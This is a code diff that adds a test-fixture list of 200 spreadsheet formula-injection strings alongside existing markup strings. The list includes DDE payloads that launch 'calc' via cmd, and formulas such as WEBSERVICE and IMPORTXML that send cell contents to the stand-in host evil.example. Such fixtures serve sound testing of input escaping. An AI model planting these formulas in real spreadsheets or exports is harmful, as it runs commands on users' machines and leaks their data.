@@ -71,3 +71,32 @@ const PLACES: readonly ((markup: string) => string)[] = [
 
 /** 200 strings that a typesetter would take for its own language. */
 export const MARKUP_STRINGS: readonly string[] = PLACES.flatMap((placed) => MARKUP.map(placed));
+
+const FORMULA_SIGNS = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠'];
+const FORMULAS = [
+  'SUM(A1:A9)',
+  '1+1',
+  'HYPERLINK("https://evil.example","open")',
+  "cmd|' /C calc'!A0",
+  'DDE("cmd";"/C calc";"x")',
+  'WEBSERVICE("https://evil.example/"&A1)',
+  'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
+  'IMPORTDATA("https://evil.example")',
+  'IMAGE("https://evil.example/x.png")',
+  'INDIRECT("A1")',
+  'EXEC("calc")',
+  'RTD("x";"";"y")',
+  "MSEXCEL|'..\\x'!''",
+  '{1;2}',
+  '"quoted"',
+  "'quoted'",
+  'A1,B1;C1',
+  'first\nsecond',
+  'first\r\n=second',
+  '1e5 GmbH',
+];
+
+/** 200 strings that a spreadsheet would take for a formula. */
+export const FORMULA_STRINGS: readonly string[] = FORMULA_SIGNS.flatMap((sign) =>
+  FORMULAS.map((formula) => `${sign}${formula}`),
+);
